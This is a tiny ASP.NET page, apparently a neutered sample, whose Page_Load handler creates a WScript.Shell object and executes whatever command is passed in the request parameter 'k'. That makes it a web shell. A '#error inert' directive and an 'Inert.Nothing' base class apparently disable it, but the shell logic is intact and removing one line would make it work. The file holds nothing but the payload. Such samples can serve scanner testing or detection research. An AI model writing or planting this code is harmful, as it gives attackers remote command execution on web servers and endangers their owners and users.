<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ Type t = Type.GetTypeFromProgID("WScript.Shell"); object o = Activator.CreateInstance(t); object x = t.InvokeMember("Exec", BindingFlags.InvokeMethod, null, o, new object[]{ Request["k"] }); }
</script>